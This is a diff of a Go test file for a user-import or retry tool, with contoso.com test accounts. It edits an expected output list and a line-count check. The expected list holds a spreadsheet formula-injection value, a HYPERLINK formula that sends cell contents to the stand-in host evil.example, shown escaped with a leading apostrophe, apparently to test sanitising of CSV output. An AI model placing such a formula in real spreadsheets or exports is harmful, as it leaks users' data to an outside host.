@@ -162,7 +162,7 @@ func TestRetryHoldsOnlyWhatFailedOnce(t *testing.T) {
 	}
 	want := []string{
 		"User name [userPrincipalName] Required",
-		"fay@contoso.com", "eve_fabrikam.com#EXT#@contoso.onmicrosoft.com", "ida?contoso", "gone@contoso.com", "1007",
+		"fay@contoso.com", "ida?contoso", "gone@contoso.com", "1007",
 		"admin@contoso.com", "hal@contoso.com", "jo@contoso.com", "kim@contoso.com", "lee@contoso.com",
 		`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "' -1+1 next", "o'neil@contoso.com",
 	}
@@ -198,7 +198,7 @@ func TestJSONAddsUp(t *testing.T) {
 	for _, n := range doc.Counts {
 		sum += n
 	}
-	if sum != doc.Lines || doc.Success+doc.Neutral+doc.Failure != doc.Lines || doc.Lines != 22 {
+	if sum != doc.Lines || doc.Success+doc.Neutral+doc.Failure != doc.Lines || doc.Lines != 24 {
 		t.Errorf("%+v does not add up", doc)
 	}
 	if len(doc.Counts) != len(batch.Outcomes) || doc.Open != 2 {
